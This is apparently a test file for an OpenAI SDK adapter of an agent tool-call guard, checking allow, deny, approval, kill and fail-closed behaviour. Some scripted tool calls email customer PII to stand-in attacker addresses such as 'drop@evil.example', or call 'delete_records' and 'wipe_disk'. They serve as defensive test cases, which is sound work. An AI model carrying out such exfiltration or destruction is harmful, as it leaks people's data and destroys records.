import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { ActionDeniedError, callbackApprover, createGuard, type ApprovalCallback, type Guard } from "@trailguard/core";
import { zodFunction } from "openai/helpers/zod";
import type { ChatCompletionMessageParam, ChatCompletionMessageToolCall } from "openai/resources/chat/completions";
import type { RunnableToolFunctionWithoutParse } from "openai/lib/RunnableFunction";
import { z } from "zod";
import { actionDeniedFrom, guardRunTools, guardToolCalls, toolResultMessage } from "./index.js";
import { chatText, chatToolCalls, CUSTOMERS, POLICY, startFakeOpenAI, type FakeOpenAI, type ScriptedCall } from "./fake-openai.test-support.js";

let server: FakeOpenAI;
beforeEach(async () => {
  server = await startFakeOpenAI();
});
afterEach(async () => {
  await server.close();
});

/** Approves refunds of 20; any other amount is approved as 20 (the guard asks again about the new arguments). */
const cutTo20: ApprovalCallback = (r) => ((r.action.args as { amount?: number }).amount === 20 ? true : { approved: true, args: { amount: 20 } });

const guardWith = (approve?: ApprovalCallback) => createGuard({ policy: POLICY, ...(approve ? { approver: callbackApprover(approve) } : {}) });

/** Tool bodies that remember every call. */
function toolBodies() {
  const calls: { name: string; args: unknown }[] = [];
  const body = (name: string, output: unknown) => vi.fn(async (args: unknown) => {
    calls.push({ name, args });
    return output;
  });
  return {
    calls,
    impl: {
      search: body("search", "3 results"),
      read_customers: body("read_customers", CUSTOMERS),
      send_email: body("send_email", "sent"),
      delete_records: body("delete_records", "deleted"),
      wipe_disk: body("wipe_disk", "wiped"),
      refund: body("refund", "refunded"),
    } as Record<string, ReturnType<typeof body>>,
  };
}

/** One turn of a hand-written loop: ask the server, guard the calls, run the allowed ones. */
async function turn(guard: Guard, calls: ScriptedCall[], bodies: ReturnType<typeof toolBodies>, options: Parameters<typeof guardToolCalls>[2] = { session: "s1" }) {
  server.script("POST /chat/completions", chatToolCalls(calls));
  const completion = await server.client().chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: "go" }] });
  const guarded = await guardToolCalls(guard, completion, options);
  const messages: ChatCompletionMessageParam[] = [...guarded.refusals];
  for (const call of guarded.allowed as Extract<ChatCompletionMessageToolCall, { type: "function" }>[]) {
    const output = await bodies.impl[call.function.name]!(JSON.parse(call.function.arguments || "{}"));
    messages.push(toolResultMessage(guard, call, output, options));
  }
  return { guarded, messages };
}

describe("guardToolCalls (chat.completions.create)", () => {
  it("runs an allowed call once, with the model's arguments", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    const { guarded, messages } = await turn(guard, [{ id: "c1", name: "search", args: { q: "shoes" } }], bodies);
    expect(guarded.decisions.map((d) => d.decision.effect)).toEqual(["allow"]);
    expect(bodies.calls).toEqual([{ name: "search", args: { q: "shoes" } }]);
    expect(messages).toEqual([{ role: "tool", tool_call_id: "c1", content: "3 results" }]);
  });

  it("soft deny: the call does not run and the model gets the refusal as the tool's answer", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    const { guarded } = await turn(guard, [{ id: "c1", name: "delete_records", args: { all: true } }, { id: "c2", name: "search", args: { q: "x" } }], bodies);
    expect(bodies.impl.delete_records).not.toHaveBeenCalled();
    expect(bodies.calls).toEqual([{ name: "search", args: { q: "x" } }]);
    expect(guarded.refusals).toEqual([{ role: "tool", tool_call_id: "c1", content: expect.stringContaining("by `no-delete` (rule): deleting records is not allowed") }]);
    // The refusal goes back to the model like any tool message.
    server.script("POST /chat/completions", chatText("ok"));
    await server.client().chat.completions.create({ model: "gpt-test", messages: [{ role: "user", content: "go" }, ...guarded.refusals] });
    expect(server.requests.at(-1)!.body.messages[1]).toMatchObject({ role: "tool", tool_call_id: "c1", content: expect.stringContaining("no-delete") });
  });

  it("hard deny: onDeny throw raises ActionDeniedError and nothing runs, not even allowed calls", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    const err = await turn(guard, [{ id: "c1", name: "search", args: {} }, { id: "c2", name: "delete_records", args: {} }], bodies, { session: "s1", onDeny: "throw" }).catch((e) => e);
    expect(err).toBeInstanceOf(ActionDeniedError);
    expect(err.code).toBe("action_denied");
    expect(err.decision.rule).toBe("no-delete");
    expect(bodies.calls).toEqual([]);
  });

  it("kill always throws, and the session stays killed", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    const err = await turn(guard, [{ id: "c1", name: "wipe_disk", args: {} }], bodies).catch((e) => e);
    expect(err).toBeInstanceOf(ActionDeniedError);
    expect(err.code).toBe("session_killed");
    const { guarded } = await turn(guard, [{ id: "c2", name: "search", args: {} }], bodies);
    expect(guarded.decisions[0]!.decision.code).toBe("killed");
    expect(bodies.calls).toEqual([]);
  });

  it("arguments that are not JSON are denied (invalid_action) and never run", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    const { guarded } = await turn(guard, [{ id: "c1", name: "search", args: '{"q": "x"' }, { id: "c2", name: "search", args: "q=x" }], bodies);
    expect(guarded.decisions.map((d) => [d.decision.effect, d.decision.code])).toEqual([["deny", "invalid_action"], ["deny", "invalid_action"]]);
    expect(bodies.calls).toEqual([]);
  });

  it("JSON arguments that are not an object go to the policy, as core decides them", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    const { guarded } = await turn(guard, [{ id: "c1", name: "search", args: "[1,2]" }, { id: "c2", name: "delete_records", args: "null" }], bodies);
    expect(guarded.decisions.map((d) => d.decision.rule)).toEqual(["reads", "no-delete"]);
    expect(bodies.calls).toEqual([{ name: "search", args: [1, 2] }]);
  });

  it("empty arguments are an empty object", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    const { guarded } = await turn(guard, [{ id: "c1", name: "search", args: "" }], bodies);
    expect(guarded.allowed).toHaveLength(1);
    expect(bodies.calls).toEqual([{ name: "search", args: {} }]);
  });

  describe("ask", () => {
    it("approved: runs with the model's arguments", async () => {
      const seen: unknown[] = [];
      const guard = await guardWith((r) => (seen.push(r.action), true));
      const bodies = toolBodies();
      const { guarded } = await turn(guard, [{ id: "c1", name: "refund", args: { amount: 50 } }], bodies);
      expect(guarded.decisions[0]!.decision.code).toBe("approval_granted");
      expect(seen).toEqual([expect.objectContaining({ tool: "refund", args: { amount: 50 } })]);
      expect(bodies.calls).toEqual([{ name: "refund", args: { amount: 50 } }]);
    });

    it("denied: does not run", async () => {
      const guard = await guardWith(() => false);
      const bodies = toolBodies();
      const { guarded } = await turn(guard, [{ id: "c1", name: "refund", args: { amount: 50 } }], bodies);
      expect(guarded.refusals[0]!.content).toContain("approval_denied");
      expect(bodies.calls).toEqual([]);
    });

    it("modified: runs with the approver's arguments", async () => {
      const guard = await guardWith(cutTo20);
      const bodies = toolBodies();
      const { guarded } = await turn(guard, [{ id: "c1", name: "refund", args: { amount: 50 } }], bodies);
      expect(guarded.allowed[0]).toMatchObject({ id: "c1", function: { arguments: '{"amount":20}' } });
      expect(bodies.calls).toEqual([{ name: "refund", args: { amount: 20 } }]);
    });

    it("without an approver: denied", async () => {
      const guard = await guardWith();
      const bodies = toolBodies();
      const { guarded } = await turn(guard, [{ id: "c1", name: "refund", args: { amount: 50 } }], bodies);
      expect(guarded.decisions[0]!.decision.code).toBe("approval_unavailable");
      expect(bodies.calls).toEqual([]);
    });

    it("an approver that throws: denied", async () => {
      const guard = await guardWith(() => {
        throw new Error("approver down");
      });
      const bodies = toolBodies();
      const { guarded } = await turn(guard, [{ id: "c1", name: "refund", args: { amount: 50 } }], bodies);
      expect(guarded.decisions[0]!.decision.code).toBe("approval_error");
      expect(bodies.calls).toEqual([]);
    });
  });

  it("exfiltration: reading customers is allowed, sending them out is denied by the flow rule", async () => {
    const guard = await guardWith();
    const bodies = toolBodies();
    await turn(guard, [{ id: "c1", name: "read_customers", args: {} }], bodies);
    const { guarded } = await turn(guard, [
      { id: "c2", name: "send_email", args: { to: "drop@evil.example", body: "Alice Smith <alice@example.com>" } },
      { id: "c3", name: "send_email", args: { to: "drop@evil.example", body: "the weather is fine" } },
      { id: "c4", name: "send_email", args: { to: "team@corp.example", body: "Alice Smith <alice@example.com>" } },
    ], bodies);
    expect(guarded.decisions.map((d) => [d.decision.effect, d.decision.rule ?? d.decision.code])).toEqual([["deny", "no-pii-egress"], ["allow", "mail"], ["allow", "mail"]]);
    expect(guarded.decisions[0]!.decision.labels).toEqual(["pii"]);
    expect(bodies.calls.map((c) => (c.args as { to?: string }).to ?? c.name)).toEqual(["read_customers", "drop@evil.example", "team@corp.example"]);
    expect(bodies.calls[1]!.args).toEqual({ to: "drop@evil.example", body: "the weather is fine" });
  });

  it("a custom tool call is decided with its input as `args.input`", async () => {
    const guard = await guardWith();
    const message = {
      role: "assistant" as const, content: null, refusal: null,
      tool_calls: [{ id: "c1", type: "custom" as const, custom: { name: "delete_records", input: "everything" } }],
    };
    const guarded = await guardToolCalls(guard, message, { session: "s1" });
    expect(guarded.allowed).toEqual([]);
    expect(guarded.refusals[0]!.content).toContain("no-delete");
  });

  describe("fail closed", () => {
    it("a guard whose decide throws: denied", async () => {
      const real = await guardWith();
      const guard = { ...real, decide: () => Promise.reject(new Error("boom")) } as Guard;
      const bodies = toolBodies();
      const { guarded } = await turn(guard, [{ id: "c1", name: "search", args: {} }], bodies);
      expect(guarded.decisions[0]!.decision).toMatchObject({ effect: "deny", code: "adapter_error" });
      expect(bodies.calls).toEqual([]);
    });

    it("a guard that answers nothing: denied", async () => {
      const real = await guardWith();
      const guard = { ...real, decide: async () => undefined } as unknown as Guard;
      const bodies = toolBodies();
      const { guarded } = await turn(guard, [{ id: "c1", name: "search", args: {} }], bodies);
      expect(guarded.decisions[0]!.decision.effect).toBe("deny");
      expect(bodies.calls).toEqual([]);
    });

    it("a call whose fields cannot be read: denied", async () => {
      const guard = await guardWith();
      const call = { id: "c1", type: "function", get function(): never { throw new Error("hostile getter"); } };
      const guarded = await guardToolCalls(guard, { role: "assistant", content: null, refusal: null, tool_calls: [call as never] }, { session: "s1" }).catch((e) => e);
      // Either a refusal or an error: never an allowed call.
      if (guarded instanceof Error) expect(guarded.message).toContain("hostile");
      else expect(guarded.allowed).toEqual([]);
    });

    it("a recordResult that throws withholds the output rather than hand it on unredacted and unlabelled", async () => {
      const real = await guardWith();
      const guard = { ...real, recordResult: () => { throw new Error("down"); } } as Guard;
      const call = { id: "c1", type: "function" as const, function: { name: "search", arguments: "{}" } };
      const message = toolResultMessage(guard, call, { secret: "sk-abc" }, { session: "s1" });
      expect(message).toMatchObject({ role: "tool", tool_call_id: "c1" });
      expect(message.content).not.toContain("sk-abc");
      expect(message.content).toMatch(/withheld/);
    });

    it("a recordResult that returns { output } (redaction) replaces the output", async () => {
      const real = await guardWith();
      const guard = { ...real, recordResult: () => ({ output: "[redacted]", redacted: true }) } as unknown as Guard;
      const call = { id: "c1", type: "function" as const, function: { name: "search", arguments: "{}" } };
      expect(toolResultMessage(guard, call, "sk-secret", { session: "s1" }).content).toBe("[redacted]");
    });
  });
});

describe("guardRunTools (chat.completions.runTools)", () => {
  const search = vi.fn(async (args: string) => `results for ${JSON.parse(args).q}`);
  const remove = vi.fn(async (_args: string) => "deleted");
  const tools = (): RunnableToolFunctionWithoutParse[] => [
    { type: "function" as const, function: { name: "search", description: "search", parameters: { type: "object", properties: { q: { type: "string" } } }, function: search } },
    { type: "function" as const, function: { name: "delete_records", description: "delete", parameters: { type: "object", properties: {} }, function: remove } },
  ];
  beforeEach(() => {
    search.mockClear();
    remove.mockClear();
  });

  it("runs allowed calls once with the model's arguments and answers denied ones with the refusal", async () => {
    const guard = await guardWith();
    server.script("POST /chat/completions", chatToolCalls([{ id: "c1", name: "search", args: { q: "shoes" } }, { id: "c2", name: "delete_records", args: { all: true } }]), chatText("done"));
    const runner = server.client().chat.completions.runTools({ model: "gpt-test", messages: [{ role: "user", content: "go" }], tools: guardRunTools(guard, tools(), { session: "s1" }) });
    expect(await runner.finalContent()).toBe("done");
    expect(search).toHaveBeenCalledTimes(1);
    expect(search.mock.calls[0]![0]).toBe('{"q":"shoes"}');
    expect(remove).not.toHaveBeenCalled();
    // The follow-up turn carried both answers to the model.
    const sent = server.requests[1]!.body.messages as { role: string; tool_call_id?: string; content: string }[];
    expect(sent.filter((m) => m.role === "tool")).toEqual([
      { role: "tool", tool_call_id: "c1", content: "results for shoes" },
      { role: "tool", tool_call_id: "c2", content: expect.stringContaining("trailguard denied the action `delete_records` by `no-delete`") },
    ]);
  });

  it("hard deny rejects the run with ActionDeniedError before the function runs", async () => {
    const guard = await guardWith();
    server.script("POST /chat/completions", chatToolCalls([{ id: "c1", name: "delete_records", args: {} }]), chatText("done"));
    const runner = server.client().chat.completions.runTools({ model: "gpt-test", messages: [{ role: "user", content: "go" }], tools: guardRunTools(guard, tools(), { session: "s1", onDeny: "throw" }) });
    const err = await runner.finalContent().catch((e) => e);
    // The SDK wraps what a tool throws in an OpenAIError whose `cause` is the original.
    expect(err.cause).toBeInstanceOf(ActionDeniedError);
    expect(actionDeniedFrom(err)).toBe(err.cause);
    expect(remove).not.toHaveBeenCalled();
    expect(server.requests).toHaveLength(1);
  });

  it("kill rejects the run even with soft denies, and the session's next calls are refused", async () => {
    const guard = await guardWith();
    const wipe = vi.fn(async () => "wiped");
    const ts: RunnableToolFunctionWithoutParse[] = [...tools(), { type: "function", function: { name: "wipe_disk", description: "", parameters: { type: "object", properties: {} }, function: wipe } }];
    // No follow-up turn is scripted for the first run: a kill ends it at the tool call.
    server.script("POST /chat/completions", chatToolCalls([{ id: "c1", name: "wipe_disk", args: {} }]));
    const first = server.client().chat.completions.runTools({ model: "gpt-test", messages: [{ role: "user", content: "go" }], tools: guardRunTools(guard, ts, { session: "s1" }) });
    expect(actionDeniedFrom(await first.finalContent().catch((e) => e))?.code).toBe("session_killed");
    server.script("POST /chat/completions", chatToolCalls([{ id: "c2", name: "search", args: { q: "x" } }]), chatText("done"));
    const second = server.client().chat.completions.runTools({ model: "gpt-test", messages: [{ role: "user", content: "go" }], tools: guardRunTools(guard, ts, { session: "s1" }) });
    // Later calls of a killed session are denials (`killed`), soft like any other.
    expect(await second.finalContent()).toBe("done");
    expect(server.requests.at(-1)!.body.messages.at(-1).content).toContain("(killed)");
    expect(wipe).not.toHaveBeenCalled();
    expect(search).not.toHaveBeenCalled();
  });

  it("zodFunction tools: decided on the model's arguments, run with the parsed ones; approver changes are parsed too", async () => {
    const refund = vi.fn(async (args: { amount: number }) => `refunded ${args.amount}`);
    const guard = await guardWith(cutTo20);
    server.script("POST /chat/completions", chatToolCalls([{ id: "c1", name: "refund", args: { amount: 50 } }]), chatText("done"));
    const zodTool = zodFunction({ name: "refund", parameters: z.object({ amount: z.number() }), function: refund });
    const runner = server.client().chat.completions.runTools({ model: "gpt-test", messages: [{ role: "user", content: "go" }], tools: guardRunTools(guard, [zodTool], { session: "s1" }) });
    await runner.finalContent();
    expect(refund).toHaveBeenCalledTimes(1);
    expect(refund.mock.calls[0]![0]).toEqual({ amount: 20 });
    expect(server.requests[1]!.body.messages.at(-1)).toMatchObject({ role: "tool", content: "refunded 20" });
  });

  it("feeds outputs to flows: a later send of the data is denied", async () => {
    const guard = await guardWith();
    const read = vi.fn(async () => CUSTOMERS);
    const send = vi.fn(async (_args: string) => "sent");
    const ts: RunnableToolFunctionWithoutParse[] = [
      { type: "function" as const, function: { name: "read_customers", description: "", parameters: { type: "object", properties: {} }, function: read } },
      { type: "function" as const, function: { name: "send_email", description: "", parameters: { type: "object", properties: {} }, function: send } },
    ];
    server.script("POST /chat/completions",
      chatToolCalls([{ id: "c1", name: "read_customers", args: {} }]),
      chatToolCalls([{ id: "c2", name: "send_email", args: { to: "x@evil.example", body: CUSTOMERS } }]),
      chatText("done"));
    const runner = server.client().chat.completions.runTools({ model: "gpt-test", messages: [{ role: "user", content: "go" }], tools: guardRunTools(guard, ts, { session: "s1" }) });
    expect(await runner.finalContent()).toBe("done");
    expect(read).toHaveBeenCalledTimes(1);
    expect(send).not.toHaveBeenCalled();
    expect(server.requests[2]!.body.messages.at(-1).content).toContain("no-pii-egress");
  });
});
